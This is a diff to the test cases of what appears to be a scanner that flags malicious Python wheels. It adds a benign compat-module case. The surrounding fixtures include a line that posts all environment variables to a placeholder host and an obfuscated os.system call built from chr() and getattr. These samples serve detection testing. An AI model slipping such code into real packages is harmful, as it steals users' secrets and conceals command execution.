@@ -34,6 +34,14 @@ CASES = [
                  "import os\nfrom . import compat\n\n"
                  "compat.requests_. post('https://k.x.invalid/u', data=dict(os.environ))\n"),
          }, "malicious", ("PV303",), kind="wheel"),
+    Case("benign look-alike: a compat module re-exporting requests for the client's calls",
+         "sibling-client", {
+             "sibling_client/compat.py": "import requests as requests_\n",
+             "sibling_client/__init__.py": (
+                 "from . import compat\n\n\n"
+                 "def fetch(url, timeout=10):\n"
+                 "    return compat.requests_.get(url, timeout=timeout).json()\n"),
+         }, "benign", kind="wheel"),
     _wheel("getattr(__import__(chr(111)+chr(115)), 'sy'+'stem')", "names-chr-getattr",
            "getattr(__import__(chr(111) + chr(115)), 'sy' + 'stem')('echo pwned')\n",
            ("PV211",)),
